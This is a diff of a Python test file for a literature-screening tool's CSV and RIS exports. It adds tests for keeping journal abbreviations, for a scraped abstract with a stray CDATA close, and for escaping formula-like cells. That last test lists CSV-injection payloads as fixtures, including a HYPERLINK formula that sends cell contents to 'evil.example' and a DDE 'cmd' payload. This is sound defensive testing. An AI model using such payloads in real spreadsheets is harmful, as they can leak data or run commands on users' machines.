@@ -15,7 +15,8 @@ from pathlib import Path
 
 import pandas as pd
 
-from screening.export import to_csv, to_ris
+from screening.export import to_ris
+from screening.export_csv import to_csv
 from screening.stages.ingest import RawSource, ingest
 
 FIX = Path(__file__).resolve().parents[1] / "fixtures" / "exports"
@@ -81,3 +82,60 @@ def test_csv_export_reingests_with_each_records_database_and_notes() -> None:
     # and a --database given for the file still names them all, as for any export
     named = ingest([RawSource("export.csv", text.encode("utf-8-sig"), database="Screened set")]).records
     assert set(named["source_db"]) == {"Screened set"}
+
+
+
+def test_csv_export_keeps_the_journal_abbreviation() -> None:
+    """The RIS export keeps it as J2; the CSV had no column for it, and a CSV round trip lost
+    82 of 486 in the wildfire funnel (acceptance testing)."""
+    table = _table(SOURCES)
+    assert (table["journal_abbrev"] != "").sum() == 6
+    text = to_csv(_exported(table))
+    header = next(csv.reader(io.StringIO(text)))
+    assert header.index("journal_abbrev") == header.index("journal") + 1      # with the journal
+    back = ingest([RawSource("export.csv", text.encode("utf-8-sig"))]).records
+    assert back["journal_abbrev"].tolist() == table["journal_abbrev"].tolist()
+    assert back["journal"].tolist() == table["journal"].tolist()
+
+def test_csv_and_ris_exports_read_back_a_scraped_abstract_alike() -> None:
+    """A real Dimensions abstract (dimensions_246-00205 of the wildfire funnel) ends in scraped
+    web-page script, '... }, 1); // ]]>': a CDATA close with no CDATA open. Re-ingested, the
+    RIS export kept it and the CSV export lost the ']]>' (acceptance testing): the CSV reader's
+    clean_text took a lone marker for markup where the RIS reader's fast path left it. Both
+    keep the text as the database gave it."""
+    source = Path(__file__).resolve().parents[1] / "fixtures" / "field_cases" / \
+        "ris_dimensions_scraped_script_abstract.ris"
+    table = ingest([RawSource(source.name, source.read_bytes())]).records
+    abstract = table["abstract"].iloc[0]
+    assert abstract.endswith("clearInterval(intervalId); } }, 1); // ]]>") and abstract.startswith("Wildfires occur")
+    via_ris = ingest([RawSource("export.ris", to_ris(_exported(table)).encode("utf-8"))]).records
+    via_csv = ingest([RawSource("export.csv", to_csv(_exported(table)).encode("utf-8-sig"))]).records
+    assert via_ris["abstract"].tolist() == via_csv["abstract"].tolist() == [abstract]
+
+
+# formula-like starts (the acceptance tester's titles), and values that begin with quotes
+# already: escaping must give each back exactly
+_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click") ', "+cmd|' /C calc'!A0 ", "@SUM(1+1) ", "=1+1 ",
+             "-", "'=already quoted ", "''+twice ")
+
+
+def test_formula_like_cells_are_escaped_and_read_back_as_they_were() -> None:
+    """CSV injection (acceptance testing): a text cell starting with '=', '+', '-' or '@' was
+    written as it was, and Excel, for which the CSV is recommended, runs it as a formula.
+    Such cells get a leading "'" (OWASP); numbers (year, a negative score) do not, and the
+    CSV reader strips the quote again, so the export reads back unchanged."""
+    table = _table(SOURCES)[:len(_FORMULAS)]
+    table = table.assign(title=[f + t for f, t in zip(_FORMULAS, table["title"])],
+                         abstract=["-" + a for a in table["abstract"]],
+                         notes=["@" + n if n else n for n in table["notes"]],
+                         score=[-0.5 + i for i in range(len(table))], rank=range(1, len(table) + 1))
+    text = to_csv(_exported(table).assign(reason="=wrong population"))
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["title"][:len(f) + 1] for r, f in zip(rows, _FORMULAS)] == ["'" + f for f in _FORMULAS]
+    assert {r["reason"] for r in rows} == {"'=wrong population"}
+    assert all(r["abstract"].startswith("'-") for r in rows)
+    assert rows[0]["score"] == "-0.5" and rows[0]["year"] == str(table["year"].iloc[0])     # numbers as they are
+    back = ingest([RawSource("export.csv", text.encode("utf-8-sig"))]).records
+    for column in ("title", "abstract", "notes", "journal", "doi"):
+        assert back[column].tolist() == table[column].tolist(), column
+    assert back["reason"].tolist() == ["=wrong population"] * len(table)      # an extra column, unescaped too
